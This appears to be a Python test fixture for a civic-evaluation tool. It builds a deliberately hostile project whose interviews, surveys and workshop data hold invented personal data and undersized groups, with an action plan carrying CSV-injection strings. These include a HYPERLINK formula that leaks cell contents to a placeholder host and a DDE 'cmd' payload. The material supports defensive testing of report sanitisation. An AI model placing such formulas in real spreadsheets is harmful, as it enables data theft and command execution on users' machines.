"""Demo-like studies written as a careless or malicious user would, for the hostile suite.

:func:`write_project` lays a throw-away project (the real templates and reference data, and
two studies) that :func:`run_project` runs once per test session through ``civeval run
--all``, for every test module of the suite (a ``conftest.py`` here would take the place of
``tests/conftest.py`` that other test modules import):

- ``petits-groupes``: interviews, a workshop, a questionnaire and participants where
  groups of 2 and 3 people sit beside larger ones, and personal data typed into every
  free text (interview segments and ids, survey answers, workshop proposals);
- ``formules``: spreadsheet formulas in an action plan, an interview id, a code and a
  group.

The module's constants say what was planted, for the tests to look for.
"""

from __future__ import annotations

import random
import shutil
import textwrap
from pathlib import Path

import yaml

from conftest import run_cli

REPO = Path(__file__).resolve().parents[2]
THRESHOLD = 5

# --------------------------------------------------------------------------- small groups

INTERVIEWS = {"élu": 2, "agent": 6, "association": 3, "habitant": 7, "commerçant": 3}
"""Interviewees per group: élus (2) join agents as « acteurs institutionnels », associations
(3) join residents as « société civile », the 3 shopkeepers have no family."""
WORKSHOP = {"élu": 2, "agent": 3, "association": 3, "habitant": 12, "commerçant": 2}
"""People per workshop table: élus and agents (5) become « acteurs institutionnels »,
associations (3) join residents, the 2 shopkeepers have no family."""
SMALL_SURVEY_CATEGORIES = {"tranche_age": {"18-29": 2}, "quartier": {"Les Près": 3},
                           "canal": {"courrier": 3}}
"""Respondents (or voters, for ``canal``) in the categories of fewer than 5 people."""
SMALL_GROUP_LABELS = ["Élu·es", "Agent·es", "Associations", "commerçant"]
"""How reports would name the groups under the threshold (in the interviews or at the
workshop) if they showed them apart."""

# --------------------------------------------------------------------------- personal data

PLANTED_PII = [
    "Jean Dupont", "Zorglub", "Mohamed Ben Ali", "Nadia Kaci", "Kévin", "Karim",
    "+33 (0)6 55 44 33 22", "0033 6 44 55 66 77", "06/10/20/30/40", "06 1234 5678",
    "jean.dupont@gmail.com", "j.dupont [at] laposte.net", "FR76 3000 6000 0112 3456 7890 189",
    "12/03/1985", "4 rue des Tilleuls", "Sophie Marchand", "Lefèvre", "Fatoumata Diallo",
    "kermarrec",
]
"""Names, phones, e-mails, an IBAN, a birth date and an address typed into free texts."""
PEOPLE_FILE = "nom;groupe\nZoé Kermarrec;élu\nSophie Marchand;\n"
"""The study's list of people (``people: personnes.csv``): Zoé Kermarrec is written below
as only the list can find her, in lower case and by her last name alone."""
PII_SEGMENTS = [
    "Jean Dupont nous a dit que le maire Zorglub ne répondait jamais.",
    "Appelez Karim au +33 (0)6 55 44 33 22, il connaît tous les jeunes.",
    "Mohamed Ben Ali a laissé son numéro, le 0033 6 44 55 66 77, sur le tract.",
    "J'ai écrit à jean.dupont@gmail.com et à l'adjointe aux sports Nadia Kaci.",
    "Mon voisin Kévin habite au 4 rue des Tilleuls, il ne vote plus.",
    "Pour le remboursement, mon RIB : FR76 3000 6000 0112 3456 7890 189.",
    "On en a parlé avec kermarrec, qui a promis un compte rendu.",
]
PII_ANSWERS = [
    "Merci de rappeler Mme Lefèvre au 06/10/20/30/40.",
    "Je suis né le 12/03/1985 et je n'avais jamais voté.",
    "Écrivez-moi : j.dupont [at] laposte.net ou au 06 1234 5678.",
    "La conseillère municipale Sophie Marchand a bien animé la réunion avec kermarrec.",
]
PII_PROPOSALS = ["Confier le comité de suivi à Fatoumata Diallo"]
NAMED_INTERVIEW = "Entretien Jean Dupont"
"""An interview id holding a name, as source files often are."""

# --------------------------------------------------------------------------- formulas

FORMULAS = ['=HYPERLINK("http://x.example?leak="&A1,"x")', "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
"""Texts a spreadsheet would run as formulas (the OWASP CSV-injection starts)."""


_RUNS: dict[str, Path] = {}


def run_project(tmp_path_factory) -> Path:
    """The reports folder of the project, written and run on the first call of the session."""
    if "reports" not in _RUNS:
        root = tmp_path_factory.mktemp("hostile") / "project"
        write_project(root)
        result = run_cli("run", "--all", "--no-progress", root=root,
                         env={"CIVEVAL_ROOT": str(root),
                              "CIVEVAL_REPORTS": str(root / "reports")})
        assert result.returncode == 0, result.stdout + result.stderr
        _RUNS["reports"] = root / "reports"
    return _RUNS["reports"]


def write_project(root: Path) -> None:
    """The project: templates, reference data and the two studies."""
    (root / "studies").mkdir(parents=True)
    for folder in ("notebooks", "data/reference"):
        shutil.copytree(REPO / folder, root / folder)
    _write(root / "studies" / "petits-groupes", _small_groups_files())
    _write(root / "studies" / "formules", _formula_files())


def _write(folder: Path, files: dict[str, str]) -> None:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")


def _csv(header: list[str], rows: list[list]) -> str:
    return "\n".join(";".join(str(value) for value in row) for row in [header, *rows]) + "\n"


STUDY_HEAD = """\
title: "Évaluation hostile"
client: {name: "Testville", kind: commune, insee_code: "35238", population: 12000}
schemes:
  - name: "Budget participatif"
    type: budget participatif
    editions:
      - {label: "2023", start: 2023-03-01, end: 2023-10-31}
      - {label: "2024", start: 2024-03-01, end: 2024-10-31}
report: {small_cell_threshold: 5}
"""

CODES = ["Budget", "Délais", "Confiance", "Communication"]


def _segments(interviews: dict[str, int], document, extra_codes=(), texts=()) -> str:
    """One interview per person, each raising a few codes; ``texts`` are given to the first
    segments."""
    rng = random.Random(14)
    rows, number = [], 0
    texts = list(texts)
    for group, people in interviews.items():
        for person in range(1, people + 1):
            number += 1
            for code in rng.sample([*CODES, *extra_codes], 2):
                text = texts.pop(0) if texts else f"Un extrait sur {code.lower()}."
                rows.append([f"X{len(rows) + 1:03d}", document(group, person, number), group,
                             f"P{number:02d}", text, code])
    return _csv(["id_extrait", "entretien", "role", "locuteur", "extrait", "codes"], rows)


def _small_groups_files() -> dict[str, str]:
    def document(group, person, number):
        return NAMED_INTERVIEW if number == 1 else f"{group[:3].upper()}{person:02d}"

    segments = _segments(INTERVIEWS, document, texts=PII_SEGMENTS)
    proposals = ["Publier un tableau de suivi", "Voter dans les écoles", *PII_PROPOSALS]
    rng = random.Random(3)
    workshop = _csv(["atelier", "proposition", "groupe", "gommettes", "participants"],
                    [["Atelier", proposal, group, rng.randint(0, 2 * size), size]
                     for group, size in WORKSHOP.items() for proposal in proposals])
    survey, voters = _survey(), _voters()
    study = STUDY_HEAD + textwrap.dedent("""\
        people: personnes.csv
        data:
          entretiens:
            file: data/entretiens.csv
            format: coded_segments
            options: {roles: [commerçant]}
          atelier:
            file: data/atelier.csv
            format: workshop
            options: {roles: [commerçant]}
          enquete:
            file: data/enquete.csv
            format: survey
            options: {codebook: codebook.yml}
          marges: {file: data/marges.csv, format: margins}
          population: {file: data/population.csv, kind: population}
          votants: {file: data/votants.csv, kind: participants}
        components:
          - 00_cadrage
          - template: 10_questionnaire
            parameters: {dataset: enquete, margins: marges, segments: [tranche_age, quartier],
                         verbatims: avis, population: population, district: quartier}
          - template: 20_entretiens
            parameters: {segments: entretiens, workshop: atelier}
          - template: 30_participation
            parameters: {participants: votants, person: id, edition: edition, channel: canal,
                         population: population}
          - 90_rapport
        """)
    codebook = textwrap.dedent("""\
        questions:
          - {id: tranche_age, type: single, label: "Tranche d'âge",
             levels: [18-29, 30-44, 45-59, 60+]}
          - {id: sexe, type: single, label: "Sexe", levels: [F, H]}
          - {id: quartier, type: single, label: "Quartier", levels: [Centre, Nord, Les Près]}
          - id: satisfaction
            type: likert
            label: "Je suis satisfait du budget participatif"
            levels: [Tout à fait d'accord, Plutôt d'accord, Plutôt pas d'accord,
                     Pas du tout d'accord]
          - {id: avis, type: text, label: "Votre avis"}
        """)
    margins = _csv(["variable", "categorie", "population"],
                   [["tranche_age", "18-29", 1800], ["tranche_age", "30-44", 2600],
                    ["tranche_age", "45-59", 2600], ["tranche_age", "60+", 3000],
                    ["sexe", "F", 5200], ["sexe", "H", 4800]])
    population = _csv(["quartier", "population"],
                      [["Centre", 5000], ["Nord", 4500], ["Les Près", 2500]])
    return {"study.yml": study, "data/entretiens.csv": segments, "data/atelier.csv": workshop,
            "data/enquete.csv": survey, "codebook.yml": codebook, "data/marges.csv": margins,
            "data/population.csv": population, "data/votants.csv": voters,
            "personnes.csv": PEOPLE_FILE}


def _survey() -> str:
    """80 respondents: 2 aged 18-29, 3 living in « Les Près »."""
    rng = random.Random(10)
    levels = ["Tout à fait d'accord", "Plutôt d'accord", "Plutôt pas d'accord",
              "Pas du tout d'accord"]
    answers = [*PII_ANSWERS, "Très bien organisé.", "Trop peu d'information.", ""]
    rows = []
    for number in range(1, 81):
        age = "18-29" if number <= 2 else rng.choice(["30-44", "45-59", "60+"])
        district = "Les Près" if 10 <= number < 13 else rng.choice(["Centre", "Nord"])
        rows.append([number, age, rng.choice(["F", "H"]), district, rng.choice(levels),
                     answers[number % len(answers)]])
    return _csv(["respondent_id", "tranche_age", "sexe", "quartier", "satisfaction", "avis"],
                rows)


def _voters() -> str:
    """Voters of two editions: 3 vote by post, « Les Près » has 3 voters in 2024."""
    rng = random.Random(11)
    rows = []
    for edition, count in (("2023", 120), ("2024", 110)):
        for number in range(1, count + 1):
            channel = "courrier" if edition == "2024" and number <= 3 else rng.choice(
                ["en ligne", "urne"])
            district = ("Les Près" if edition == "2024" and 20 <= number < 23
                        else rng.choice(["Centre", "Nord"]))
            rows.append([f"V{edition}{number:03d}", edition, channel, district])
    return _csv(["id", "edition", "canal", "quartier"], rows)


def _formula_files() -> dict[str, str]:
    group = FORMULAS[1]

    def document(group_name, person, number):
        return FORMULAS[0] if number == 1 else f"E{number:02d}"

    segments = _segments({"habitant": 6, group: 6}, document, extra_codes=FORMULAS[1:5])
    config = {
        "data": {"entretiens": {"file": "data/entretiens.csv", "format": "coded_segments",
                                "options": {"roles": [group]}}},
        "components": [{"template": "20_entretiens", "parameters": {"segments": "entretiens"}},
                       "90_rapport"],
        "action_plan": {"deadline": "2026-12-31", "actions": [{
            "id": FORMULAS[1], "title": FORMULAS[0], "lever": "transparence", "impact": 3,
            "effort": 1, "owner": FORMULAS[3], "deadline": "2026-06-30",
            "resources": FORMULAS[4], "added_by_client": True,
            "indicators": [{"indicator": "interviews", "target": 20, "date": "2026-12-31"}]}]},
    }
    study = STUDY_HEAD + yaml.safe_dump(config, allow_unicode=True, sort_keys=False)
    return {"study.yml": study, "data/entretiens.csv": segments}
